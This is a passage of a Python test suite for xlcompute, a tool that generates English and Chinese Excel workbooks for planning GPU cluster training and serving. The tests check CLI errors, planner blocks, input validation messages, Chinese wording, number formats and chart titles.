    monkeypatch.chdir(tmp_path)
    res = runner.invoke(app, ["workbook"])
    assert res.exit_code == 0, res.output
    assert len(list((tmp_path / "out").glob("*.xlsx"))) == 1


def test_cli_errors(tmp_path: Path) -> None:
    res = runner.invoke(app, ["workbook", "-o", str(tmp_path / "x.xlsx"), "--lang", "fr"])
    assert res.exit_code == 2 and "--lang" in res.output
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    res = runner.invoke(app, ["workbook", "-o", str(blocker / "sub" / "x.xlsx")])
    assert res.exit_code == 2 and "cannot write to the output folder" in res.output
    res = runner.invoke(app, ["workbook", "-o", str(tmp_path / "x.txt")])
    assert res.exit_code == 2 and ".xlsx" in res.output


# -- context parallelism and offload (issue 11) -------------------------------------------------

EXAMPLES = Path(__file__).resolve().parents[2] / "workbooks" / "scenarios"


def _planner_block(wb: Workbook) -> dict[str, list[object]]:
    """The Training sheet's planner block: label -> the values of the listed layouts."""
    ws = sheet(wb, "training")
    return {c.value: [ws.cell(row=c.row, column=col).value for col in range(2, 7)]
            for c in ws["A"] if isinstance(c.value, str)}


def test_planner_block_and_inputs_show_context_parallelism() -> None:
    from xlcompute.scenario import load_scenario

    r = estimate(load_scenario(EXAMPLES / "h100-1024-llama70b-128k.yaml"))
    wb = roundtrip(build_workbook(r, "en"))
    block = _planner_block(wb)
    cps = [row.execution.cp for row in r.plan.best[:5]]
    assert max(cps) > 1 and block[input_label("cp", "en")] == cps
    assert named_cell(wb, "cp").value == r["cp"] > 1  # the planner's choice, an input of the live sheets
    assert "=dp*tp*pp*cp" == named_cell(wb, "parallel_cards").value
    assert named_cell(wb, "seq_per_card").value == "=seq_len/cp"
    # without CP the block has no CP row
    plain = _planner_block(roundtrip(build_workbook(estimate(
        scenario_with(training__tp=None, training__pp=None)), "en")))
    assert input_label("cp", "en") not in plain


def test_offload_tier_is_looked_up_and_the_offloaded_kinds_are_listed() -> None:
    from xlcompute.scenario import load_scenario
    from xlcompute.workbook.text import text

    r = estimate(load_scenario(EXAMPLES / "gh200-8-llama70b-offload.yaml"))
    for lang, kinds in (("en", "weights, activations, optimizer states"), ("zh", "权重、激活值、优化器状态")):
        wb = roundtrip(build_workbook(r, lang))
        assert _planner_block(wb)[text("plan_offload", lang)][0] == kinds
        # the tier follows the chosen card (GH200: 480 GB of LPDDR5X at 256 GB/s per direction)
        for name, column in (("offload_gb", "J"), ("offload_gbs", "K")):
            formula = named_cell(wb, name).value
            tab = "Hardware" if lang == "en" else "'硬件'"  # the Chinese workbook's tab
            assert formula.startswith(f"=INDEX({tab}!${column}$") and "MATCH(gpu_choice" in formula, formula
        for name in ("offload_weights", "offload_activations", "offload_optimizer"):
            assert named_cell(wb, name).value == 1


def test_inputs_have_validation_with_messages_and_checks(default_wb: Workbook) -> None:
    """Every numeric input refuses what its scenario field refuses, with its error alert on and a
    message naming the field and the range (issue 14 §3); its check cell sits next to it (§1)."""
    from xlcompute._input_ranges import input_range

    ws = default_wb["Inputs"]
    by_cell = {str(dv.sqref): dv for dv in ws.data_validations.dataValidation}
    for key in INPUT_KEYS:
        cell = typed_cell(default_wb, key)
        dv = by_cell[cell.coordinate]
        assert dv.showErrorMessage and dv.errorStyle == "stop", key
        assert dv.error.startswith(input_range(key).field), (key, dv.error)
        assert ws[f"F{cell.row}"].data_type == "f", key
    zero = by_cell[typed_cell(default_wb, "zero_stage").coordinate]
    assert (zero.type, zero.formula1, zero.formula2) == ("whole", "0.0", "3.0")
    assert "at least 0 and at most 3" in zero.error
    for choice in ("gpu_choice", "model_choice", "precision_choice"):
        assert by_cell[named_cell(default_wb, choice).coordinate].showErrorMessage, choice
    tokens = by_cell[typed_cell(default_wb, "train_tokens").coordinate]
    assert tokens.type == "custom" and len(tokens.formula1) <= 255 and "2T" in tokens.error


def test_chinese_input_messages_name_the_row_in_chinese() -> None:
    """The Chinese Inputs sheet's alerts, prompts and check cells name each input by its Chinese
    row label (and its scenario field, where it has one); no English description is left in them."""
    from xlcompute._input_ranges import input_range

    wb = roundtrip(build_workbook(estimate(default_scenario()), "zh"))
    ws = sheet(wb, "inputs")
    by_cell = {str(dv.sqref): dv for dv in ws.data_validations.dataValidation}
    english = re.compile(r"[A-Za-z]+(?: [A-Za-z]+){2,}")
    for key in INPUT_KEYS:
        cell = typed_cell(wb, key)
        dv = by_cell[cell.coordinate]
        assert dv.error.startswith(input_label(key, "zh")), (key, dv.error)
        assert not english.search(dv.error) and not english.search(dv.prompt), (key, dv.error)
        if " " not in input_range(key).field:
            assert f"（{input_range(key).field}）" in dv.error, (key, dv.error)
        check = ws[f"F{cell.row}"].value
        assert f'"{input_label(key, "zh")}' in check and not english.search(check), (key, check)


def test_big_counts_display_without_exponents() -> None:
    for lang, word in (("en", " T"), ("zh", "万亿")):
        wb = roundtrip(build_workbook(estimate(default_scenario()), lang))
        fmt_ = named_cell(wb, "train_tokens").number_format
        assert "E+" not in fmt_ and word in fmt_, fmt_
        assert "E+" not in named_cell(wb, "model_params").number_format
        unit = sheet(wb, "inputs").cell(row=named_cell(wb, "mfu_assumed").row, column=3).value
        assert not unit  # the % format shows the unit: no "40.0% %"


def test_chinese_workbook_words_sources_and_the_built_in_name_in_chinese() -> None:
    """Issue 14 §7: the Chinese workbook's source column is worded from each input's origin
    (xlcompute.sources), and the built-in scenario's name is its Chinese one; a user's name stays."""
    result = estimate(default_scenario())
    zh, en = build_workbook(result, "zh"), build_workbook(result, "en")
    src_zh = typed_cell(zh, "train_tokens").parent.cell(row=typed_cell(zh, "train_tokens").row, column=4).value
    src_en = typed_cell(en, "train_tokens").parent.cell(row=typed_cell(en, "train_tokens").row, column=4).value
    assert src_zh.startswith("场景文件：training.tokens") and src_en == "scenario: training.tokens"
    names = [c.value for c in zh.worksheets[0]["B"] if c.value]
    assert "1000 卡 H800 集群：70B 模型预训练与推理" in names
    own = build_workbook(estimate(scenario_with(name="我的集群 plan")), "zh")
    assert "我的集群 plan" in [c.value for c in own.worksheets[0]["B"] if c.value]


@pytest.mark.parametrize("currency", ["CNY", "USD"])
def test_chinese_hardware_sheet_words_its_price_sources(currency: str) -> None:
    """The Chinese Hardware sheet's price-source column is Chinese (xlcompute.sources.price_source),
    for every card, in both currencies' tables."""
    zh = build_workbook(estimate(scenario_with(pricing__currency=currency)), "zh")
    ws = zh.worksheets[[w.title for w in zh.worksheets].index("硬件")]
    from xlcompute.workbook.catalog_sheets import _PRICE_SOURCE as col

    words = [ws.cell(row=r, column=col).value for r in range(3, ws.max_row + 1) if ws.cell(row=r, column=col).value]
    assert words
    english = [w for w in words if re.search(r"[A-Za-z]+(?: [A-Za-z]+){3,}", w)]
    assert not english, english[:3]


def test_validation_accepts_every_value_the_estimate_writes() -> None:
    """The Inputs sheet's rules come from the scenario fields (xlcompute._input_ranges): the values
    the estimate writes for the committed scenarios all pass them, so no unedited cell is flagged."""
    from pathlib import Path

    from xlcompute._graph import INPUT_KEYS
    from xlcompute._input_ranges import input_range
    from xlcompute.scenario import load_scenario

    files = sorted((Path(__file__).resolve().parents[2] / "workbooks" / "scenarios").glob("*.yaml"))
    assert files
    for f in files:
        result = estimate(load_scenario(f))
        bad = [(k, result.inputs[k].value) for k in INPUT_KEYS if not input_range(k).allows(result.inputs[k].value)]
        assert not bad, (f.name, bad)


def test_chinese_workbook_has_no_english_prose() -> None:
    """Issue 14 §7: no English sentence in any sheet of the committed Chinese workbook (cached values,
    as a previewer shows them), where the user wrote none. English prose is what the proposal's test
    calls it (tests/report/test_zh_edition.py): four English words in a row. Allowed, and removed
    before the search: the catalog's rows as published (names, citations), the bibliographic
    references a source cites (xlcompute.citations), and the formula text the Formulas sheet shows."""
    from pathlib import Path

    from xlcompute import catalog
    from xlcompute.citations import cited_works

    word = r"[A-Za-z][A-Za-z0-9'\-.]*"  # as tests/report/test_zh_edition.py defines it
    english_run = re.compile(rf"{word}(?:[\s,;:()/&\"]+{word}){{3,}}")

    path = Path(__file__).resolve().parents[2] / "workbooks" / "xlcompute-planner-zh.xlsx"
    wb = openpyxl.load_workbook(path, data_only=True)
    allowed: list[str] = []
    for g in catalog.gpus():
        allowed += [g.name, g.source, g.link_name or "", g.hbm_type or ""]
    for m in catalog.models():
        allowed += [m.name, m.source]
    allowed = sorted({" ".join(t.split()) for t in allowed if t.strip()}, key=len, reverse=True)
    found = []
    formulas = sheet(wb, "formulas")
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if not isinstance(c.value, str) or (ws is formulas and c.column == 3):
                    continue  # column C of the Formulas sheet shows formulas as text
                text_ = " ".join(c.value.split())
                for t in allowed:
                    text_ = text_.replace(t, " ")
                for ref in cited_works(text_):
                    text_ = text_.replace(ref, " ")
                found += [(ws.title, c.coordinate, run) for run in english_run.findall(text_)]
    assert not found, found[:10]


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_validation_titles_fit_excels_32_characters_whole(lang: str) -> None:
    """Excel shows 32 characters of a validation box's title: a label with its field name that is longer gives
    way to the label alone, never a cut such as "每 token 激活参数量（model.active_param"."""
    wb = roundtrip(build_workbook(estimate(default_scenario()), lang))
    titles = [dv.promptTitle for ws in wb.worksheets for dv in ws.data_validations.dataValidation if dv.promptTitle]
    assert len(titles) > 100
    for title in titles:
        assert len(title) <= 32, title
        whole = title.count("（") == title.count("）") and title.count("(") == title.count(")")
        assert whole or title.endswith("…"), title


def test_plan_outcomes_are_rules_the_checks_have() -> None:
    """Every condition kept out of the "inputs cannot be used" flag (a layout that outgrows the memory, a missed
    serving target, idle cards) is a rule some input's check still says: a reworded rule must not leave a dead
    entry that would turn its outcome into an unusable input."""
    from xlcompute._input_ranges import input_range
    from xlcompute.workbook.input_checks import PLAN_OUTCOMES, _cross_checks

    keys = [k for k in INPUT_KEYS if input_range(k) is not None]
    conditions = {cond for key in keys for lang in ("en", "zh") for cond, _ in _cross_checks(key, lang)}
    assert PLAN_OUTCOMES <= conditions, PLAN_OUTCOMES - conditions
    assert len(conditions - PLAN_OUTCOMES) >= 8  # the layout's rules stay in the flag


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_results_block_waits_for_usable_inputs(lang: str) -> None:
    """Each figure of the results block shows "—" while the hidden flag column counts an input the formulas cannot
    use (a pasted 0 cards would show #DIV/0! or a figure beside the check naming it); LibreOffice recalculation of
    such edits is in test_workbook_libreoffice.py."""
    from xlcompute.workbook.input_checks import FLAG_COLUMN, UNUSABLE_NAME

    wb = roundtrip(build_workbook(estimate(default_scenario()), lang))
    ws = sheet(wb, "inputs")
    assert ws.column_dimensions[FLAG_COLUMN].hidden
    assert wb.defined_names[UNUSABLE_NAME].attr_text.endswith(f"!${FLAG_COLUMN}$3")
    head = next(r for r in range(4, 40) if ws[f"F{r}"].value in ("Check", "检查"))
    block = [ws.cell(row=r, column=2).value for r in range(4, head)]
    assert len(block) >= 10 and all(v.startswith(f'=IF({UNUSABLE_NAME}>0,"—",') for v in block if v), block
    # flagged: the rows whose check may say a plan's outcome (tp: the memory; the serving targets; ...), not
    # every input
    flagged = {ws[f"E{r}"].value for r in range(head + 1, ws.max_row + 1) if ws[f"{FLAG_COLUMN}{r}"].value}
    assert flagged == {"tp", "train_tokens", "serving_tp", "tpot_target_s", "ttft_target_s"}, flagged
    assert re.search(rf"\)-COUNTIF\({FLAG_COLUMN}\d+:{FLAG_COLUMN}\d+,1\)$", str(ws[f"{FLAG_COLUMN}3"].value))


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_compare_charts_have_axis_titles(lang: str) -> None:
    """The Compare sheet's bar charts say what their bars measure (days, the currency) and what the bars are."""
    wb = build_workbook(estimate(default_scenario()), lang)
    charts = sheet(wb, "compare")._charts
    assert len(charts) == 2

    def title(axis: Any) -> str:
        return "".join(r.t for p in axis.title.tx.rich.p for r in (p.r or []))

    units = [title(c.y_axis) for c in charts]
    assert units == (["CNY", "days"] if lang == "en" else ["元", "天"]), units
    assert {title(c.x_axis) for c in charts} == {"accelerator" if lang == "en" else "加速卡"}
